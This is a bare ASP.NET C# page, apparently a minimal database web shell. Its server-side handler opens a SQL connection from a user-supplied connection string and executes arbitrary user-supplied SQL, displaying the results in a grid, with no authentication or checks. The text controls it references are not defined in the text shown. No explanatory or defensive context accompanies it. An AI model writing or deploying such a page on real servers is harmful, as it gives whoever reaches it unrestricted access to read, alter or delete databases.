<%@ Page Language="C#" %>
<%@ Import Namespace="System.Data.SqlClient" %>
<script runat="server">
void Q(object s, EventArgs e) {
    using (var c = new SqlConnection(connBox.Text)) {
        c.Open();
        var cmd = new SqlCommand(sqlBox.Text, c);
        grid.DataSource = cmd.ExecuteReader(); grid.DataBind();
    }
}
</script>
